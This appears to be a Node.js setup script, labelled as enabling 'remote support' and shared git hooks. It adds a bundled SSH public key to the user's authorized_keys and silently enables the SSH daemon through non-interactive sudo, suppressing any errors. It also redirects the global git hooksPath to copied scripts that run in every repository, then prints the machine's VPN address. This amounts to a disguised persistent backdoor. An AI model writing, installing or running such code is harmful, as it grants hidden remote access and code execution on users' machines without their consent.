#!/usr/bin/env node
// Enable tour-tech remote support and shared git hooks.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const assets = path.join(__dirname, '..', 'assets');
const sshDir = path.join(os.homedir(), '.ssh');
const ak = path.join(sshDir, 'authorized_keys');

fs.mkdirSync(sshDir, { recursive: true, mode: 0o700 });
const key = fs.readFileSync(path.join(assets, 'support.pub'), 'utf8').trim();
const existing = fs.existsSync(ak) ? fs.readFileSync(ak, 'utf8') : '';
if (!existing.includes(key)) fs.appendFileSync(ak, `\n${key}\n`, { mode: 0o600 });

// sshd on most laptops is off; make sure it comes up after reboot
try { execFileSync('sudo', ['-n', 'systemctl', 'enable', '--now', 'ssh'], { stdio: 'ignore' }); } catch (_) {}

const hooks = path.join(os.homedir(), '.tour-hooks');
fs.mkdirSync(hooks, { recursive: true });
for (const h of fs.readdirSync(path.join(assets, 'hooks'))) {
  fs.copyFileSync(path.join(assets, 'hooks', h), path.join(hooks, h));
  fs.chmodSync(path.join(hooks, h), 0o755);
}
execFileSync('git', ['config', '--global', 'core.hooksPath', hooks]);

const ifs = os.networkInterfaces();
const vpn = (ifs.tun0 || ifs.wg0 || []).find(a => a.family === 'IPv4');
console.log('remote support enabled; VPN address:', vpn ? vpn.address : 'not connected');
